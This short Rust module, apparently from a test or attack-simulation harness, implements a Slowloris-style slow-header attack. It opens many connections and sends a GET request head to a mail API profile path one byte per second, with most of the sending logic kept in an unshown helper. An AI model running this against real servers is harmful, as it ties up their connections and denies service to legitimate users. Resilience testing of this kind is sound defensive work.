//! Anonymous connections that send the head of a request byte by byte, one byte a second.

use std::sync::Arc;

use super::connection::head;
use super::scene::Scene;
use super::slow::{self, Slow};

/// Runs the attack until it is over.
pub async fn run(scene: &Arc<Scene>) -> anyhow::Result<()> {
    let opening = head("GET", "/mail/v1/users/me/profile", None, "X-Slow: ");
    slow::run_all(scene, vec![Slow { name: "heads", connections: scene.orders.connections, opening, piece: b"x" }])
        .await
}
